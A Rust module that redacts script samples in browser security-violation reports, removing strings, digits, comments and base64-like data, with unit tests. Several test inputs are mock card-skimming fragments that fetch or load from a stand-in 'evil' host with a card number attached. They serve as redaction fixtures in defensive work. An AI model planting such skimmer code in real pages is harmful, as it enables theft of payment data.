//! Hides what code says: a sample keeps its syntax and its names, and loses strings and digits.
//!
//! Comments, template strings and regular expressions go like strings. What begins and does not end is
//! lost to the end: browsers cut samples at 40 characters.

use std::iter::Peekable;
use std::str::Chars;

use super::base64::has_base64_digits;
use super::word::MAX_WORD_CHARS;

/// Longest redacted sample, in characters. Browsers send 40, two times that for trusted types.
pub const MAX_SAMPLE_CHARS: usize = 80;

/// Stands for a row of digits.
const DIGITS: char = '#';

/// Sinks of trusted types whose value is code; the value of any other is markup or a URL.
const CODE_SINKS: [&str; 5] = [
    "eval",
    "Function",
    "setTimeout",
    "setInterval",
    "AsyncFunction",
];

/// The redacted sample.
pub(super) fn redact(sample: &str) -> String {
    match sink(sample) {
        Some((sink, code)) if CODE_SINKS.contains(&sink) => {
            format!("{sink}|{}", Code::redact(code))
        }
        Some((sink, "")) => format!("{sink}|"),
        Some((sink, _)) => format!("{sink}|*"),
        None => Code::redact(sample),
    }
}

/// `Element innerHTML|<b>…`: the sink that trusted types put before the value.
fn sink(sample: &str) -> Option<(&str, &str)> {
    let (sink, value) = sample.split_once('|')?;
    let named = sink
        .split(' ')
        .all(|word| !word.is_empty() && word.bytes().all(|b| b.is_ascii_alphabetic()));
    (named && sink.len() <= MAX_WORD_CHARS && !has_base64_digits(sink)).then_some((sink, value))
}

struct Code<'a> {
    rest: Peekable<Chars<'a>>,
    out: String,
    /// Begin of the name that is being written.
    name: Option<usize>,
}

impl<'a> Code<'a> {
    fn redact(code: &'a str) -> String {
        let mut code = Self {
            rest: code.chars().peekable(),
            out: String::with_capacity(code.len().min(MAX_SAMPLE_CHARS)),
            name: None,
        };
        // Each step writes a character or two; the cap holds within one name.
        while code.out.len() < MAX_SAMPLE_CHARS * 4 && code.step().is_some() {}
        code.end_name();
        let mut out = code.out;
        if let Some((end, _)) = out.char_indices().nth(MAX_SAMPLE_CHARS) {
            out.truncate(end);
        }
        out
    }

    fn step(&mut self) -> Option<()> {
        let c = self.rest.next()?;
        if c.is_alphabetic() || matches!(c, '_' | '$') {
            self.name.get_or_insert(self.out.len());
            self.out.push(c);
            return Some(());
        }
        if c.is_numeric() {
            if !self.out.ends_with(DIGITS) {
                self.out.push(DIGITS);
            }
            return Some(());
        }
        self.end_name();
        match c {
            '"' | '\'' | '`' | '“' | '”' | '‘' | '’' => {
                self.out.push(c);
                if self.skip_to(c) {
                    self.out.push(c);
                }
            }
            '/' => self.slash(),
            c if c.is_whitespace() || c.is_control() => self.space(),
            c if c.is_ascii() || c == '…' => self.out.push(c),
            _ => {}
        }
        Some(())
    }

    fn space(&mut self) {
        if !self.out.ends_with(' ') {
            self.out.push(' ');
        }
    }

    /// A comment, a regular expression, or a division.
    fn slash(&mut self) {
        match self.rest.peek() {
            Some('/') => {
                self.out.push_str("//");
                while self.rest.next_if(|&c| c != '\n').is_some() {}
            }
            Some('*') => {
                self.out.push_str("/*");
                self.rest.next();
                let mut last = ' ';
                for c in self.rest.by_ref() {
                    if last == '*' && c == '/' {
                        self.out.push_str("*/");
                        break;
                    }
                    last = c;
                }
            }
            _ => {
                let before = self.out.trim_end().chars().next_back();
                self.out.push('/');
                let divides = before.is_some_and(|c| {
                    c.is_alphanumeric() || matches!(c, ')' | ']' | '_' | '$' | DIGITS)
                });
                if !divides && self.skip_to('/') {
                    self.out.push('/');
                }
            }
        }
    }

    /// Leaves out everything to the closing character; whether there was one.
    fn skip_to(&mut self, close: char) -> bool {
        while let Some(c) = self.rest.next() {
            if c == close {
                return true;
            }
            if c == '\\' {
                self.rest.next();
            }
        }
        false
    }

    /// A name too long for one, or the base64 of digits, is data.
    fn end_name(&mut self) {
        let Some(start) = self.name.take() else {
            return;
        };
        let name = self.out.get(start..).unwrap_or("");
        if name.chars().count() > MAX_WORD_CHARS
            || has_base64_digits(name)
            || has_mixed_digits(name)
        {
            self.out.truncate(start);
            self.out.push('*');
        }
    }
}

/// `SmFu#ZQ`: digits among letters more than once are base64 or hex.
fn has_mixed_digits(name: &str) -> bool {
    name.trim_end_matches(DIGITS).matches(DIGITS).count() > 1
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn samples() {
        for (sample, want) in [
            ("", ""),
            (
                "var pan='4111111111111111';fetch('//evil",
                "var pan='';fetch('",
            ),
            (
                "var pan='4111111111111111';fetch('//evil…",
                "var pan='';fetch('",
            ),
            ("steal(4111111111111111)", "steal(#)"),
            (
                "javascript:void(\"4111111111111111\")",
                "javascript:void(\"\")",
            ),
            ("let a=1", "let a=#"),
            ("color:red;background:blue", "color:red;background:blue"),
            ("eval|4111111111111111", "eval|#"),
            ("Element innerHTML|<i>Jane Doe</i>", "Element innerHTML|*"),
            (
                "HTMLScriptElement src|https://evil.skimmer.test/s.js?pan=41111",
                "HTMLScriptElement src|*",
            ),
            ("a|b", "a|*"),
            ("(a||b)/2", "(a||b)/#"),
            ("/*\u{0}\u{1b}\u{feff}*/4111111111111111", "/**/#"),
            ("/*x😀😀", "/*"),
            ("// jane@example.test\nf()", "// f()"),
            (
                "(function anonymous(a\n) {\nreturn 4111111",
                "(function anonymous(a ) { return #",
            ),
            ("x=/it's/.test('jane')", "x=//.test('')"),
            ("x=`a${jane}b`+1", "x=``+#"),
            ("x='it\\'s jane'+y", "x=''+y"),
            (
                "{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"/",
                "{\"\":[{\"\":\"\",\"\":[\"",
            ),
            ("window.__c2=1", "window.__c#=#"),
            ("d=MTExMTExMTExMTE", "d=*"),
            ("d=SmFu7ZQ9aa3b", "d=*"),
            ("４１１１", "#"),
            (
                "background:url(https://e.test/x?jane)",
                "background:url(https://",
            ),
        ] {
            assert_eq!(redact(sample), want, "{sample}");
        }
    }

    #[test]
    fn long_samples_are_cut() {
        assert_eq!(
            redact(&"a;".repeat(10_000)).chars().count(),
            MAX_SAMPLE_CHARS
        );
        assert_eq!(redact(&"a".repeat(10_000)), "*");
    }
}
